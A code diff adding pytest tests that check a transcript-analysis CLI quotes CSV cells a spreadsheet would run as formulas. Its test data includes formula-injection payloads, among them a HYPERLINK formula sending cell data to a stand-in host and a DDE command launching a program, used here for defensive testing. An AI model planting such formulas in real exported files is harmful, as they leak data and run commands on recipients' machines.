@@ -17,7 +17,7 @@ import pytest
 from conftest import ROOT
 
 from pgm_explore import analysis
-from pgm_explore.cli import TABLE_NAMES, main
+from pgm_explore.cli import TABLE_NAMES, build_parser, main
 from pgm_explore.dialogue import Transcript
 from pgm_explore.spec.process_actions import PA_STATUS_CODES
 
@@ -162,7 +162,67 @@ def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureF
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(MARKET.read_bytes())))
     status, out, _ = run(capsys, "table", "messages", "-")
     assert status == 0
-    assert [line.split(",")[1] for line in out.splitlines()[1:]] == [f"-:{n}" for n in range(1, 14)]
+    # A cell starting with "-" is a formula to a spreadsheet: defused like any other (issue 11).
+    assert [line.split(",")[1] for line in out.splitlines()[1:]] == [f"'-:{n}" for n in range(1, 14)]
+    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(MARKET.read_bytes())))
+    _, raw, _ = run(capsys, "table", "messages", "--no-csv-escape", "-")
+    assert [line.split(",")[1] for line in raw.splitlines()[1:]] == [f"-:{n}" for n in range(1, 14)]
+
+
+# --- formula injection (issue 11) -------------------------------------------------------------------
+
+_FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+]  # (a "\r" is left to tests/test_hostile.py: pandas does not quote it with "\n" line ends)
+
+
+def _formula_transcript(tmp_path: Path) -> Path:
+    lines = MARKET.read_text().splitlines()
+    docs = [json.loads(line) for line in lines]
+    for doc, formula in zip(docs, _FORMULAS * 3, strict=False):
+        doc["DialogID"] = formula
+        for key in ("QueryID", "PCPromptID"):
+            if key in doc:
+                doc[key] = formula + doc[key]
+    path = tmp_path / "formulas.jsonl"
+    path.write_text("".join(json.dumps(doc) + "\n" for doc in docs))
+    return path
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = _formula_transcript(tmp_path)
+    frame = analysis.messages(Transcript.load(str(path)))
+    status, out, _ = run(capsys, "table", "messages", str(path))
+    assert status == 0
+    import csv
+
+    header, *rows = csv.reader(io.StringIO(out, newline=""))  # (a "\r" inside a quoted cell stays)
+    back = {name: [row[i] for row in rows] for i, name in enumerate(header)}
+    for column in ("dialog", "query_id"):
+        assert all(cell.startswith("'") for cell in back[column] if cell)
+        assert [cell.removeprefix("'") for cell in back[column]] == [
+            v if isinstance(v, str) else "" for v in frame[column]
+        ]
+    assert back["dialog"][0] == "'" + _FORMULAS[0]
+    assert any(back["turn"]) and not any(cell.startswith("'") for cell in back["turn"])  # numbers stay
+    # The option turns it off; JSON, which no spreadsheet runs, is never touched.
+    _, raw, _ = run(capsys, "table", "messages", "--no-csv-escape", str(path))
+    assert raw == frame.to_csv(index=False, lineterminator="\n")
+    _, as_json, _ = run(capsys, "table", "messages", "--format", "json", str(path))
+    assert [record["dialog"] for record in json.loads(as_json)] == list(frame["dialog"])
+
+
+def test_help_tells_of_the_csv_escape(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit):
+        build_parser().parse_args(["table", "--help"])
+    out = capsys.readouterr().out
+    assert "--no-csv-escape" in out and "OWASP" in out
 
 
 # --- exit statuses ----------------------------------------------------------------------------------
